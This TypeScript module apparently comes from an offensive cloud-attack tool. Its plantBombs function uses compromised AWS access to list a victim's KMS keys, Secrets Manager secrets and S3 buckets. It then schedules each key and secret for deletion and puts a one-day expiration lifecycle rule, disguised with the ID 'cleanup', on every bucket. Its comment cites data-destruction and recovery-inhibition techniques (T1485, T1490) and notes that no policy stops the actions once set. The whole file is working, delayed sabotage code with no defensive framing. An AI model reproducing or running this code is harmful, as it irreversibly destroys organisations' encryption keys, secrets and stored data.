import { tryDoors, type HisDoor, type Seen } from '../door.ts';
import type { Holdings } from '../holdings.ts';

/**
 * What goes off without him, and what no policy stops once it is set: keys that wait to be deleted, secrets that do,
 * buckets that empty themselves (T1485, T1490). Each once.
 */
export function plantBombs(doors: readonly HisDoor[], his: Holdings): number {
  return [
    ...all(doors, his, {
      list: ['kms', 'ListKeys'],
      members: ['Keys', 'KeyId'],
      plant: (KeyId) =>
        tryDoors(doors, 'kms', 'ScheduleKeyDeletion', { KeyId, PendingWindowInDays: 7 }),
    }),
    ...all(doors, his, {
      list: ['secretsmanager', 'ListSecrets'],
      members: ['SecretList', 'ARN'],
      plant: (SecretId) =>
        tryDoors(doors, 'secretsmanager', 'DeleteSecret', { SecretId, RecoveryWindowInDays: 7 }),
    }),
    ...all(doors, his, {
      list: ['s3', 'ListBuckets'],
      members: ['Buckets', 'Name'],
      plant: (Bucket) =>
        tryDoors(doors, 's3', 'PutBucketLifecycleConfiguration', {
          Bucket,
          LifecycleConfiguration: { Rules: [EMPTIES_ITSELF] },
        }),
    }),
  ].filter(Boolean).length;
}

const EMPTIES_ITSELF = {
  ID: 'cleanup',
  Status: 'Enabled',
  Filter: { Prefix: '' },
  Expiration: { Days: 1 },
  NoncurrentVersionExpiration: { NoncurrentDays: 1 },
};

interface Bomb {
  readonly list: ['kms' | 'secretsmanager' | 's3', string];
  readonly members: [list: string, id: string];
  readonly plant: (id: string) => Seen;
}

function all(doors: readonly HisDoor[], his: Holdings, bomb: Bomb): boolean[] {
  const listed = tryDoors(doors, ...bomb.list);
  if (!listed.ok) return [];
  const [list, member] = bomb.members;
  const found = (listed.output[list] ?? []) as { [key: string]: unknown }[];
  return found
    .map((item) => String(item[member]))
    .filter((id) => !his.done.has(id))
    .map((id) => {
      const { ok } = bomb.plant(id);
      if (ok) his.done.add(id);
      return ok;
    });
}
